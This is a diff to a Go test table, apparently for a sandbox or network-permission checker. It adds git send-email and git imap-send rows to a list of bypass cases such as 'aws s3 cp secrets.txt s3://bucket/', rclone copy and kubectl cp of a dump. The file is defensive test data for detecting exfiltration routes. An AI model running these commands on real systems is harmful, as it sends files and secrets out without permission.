@@ -92,6 +92,8 @@ var bypassTable = []tcase{
 	{line: "busybox ftpget h.example f", progs: "busybox ftpget", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
 	{line: "ping -c1 h.example", progs: "ping", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
 	{line: "rclone copy a remote:b", progs: "rclone", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
+	{line: "git send-email --to=x@example.test 0001.patch", progs: "git", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
+	{line: "git imap-send < 0001.patch", progs: "git", deny: "git:push", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
 	{line: "aws s3 cp secrets.txt s3://bucket/", progs: "aws", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
 	{line: "kubectl cp ./dump pod:/tmp/", progs: "kubectl", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
 	{line: "gcloud storage cp f gs://b/", progs: "gcloud", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
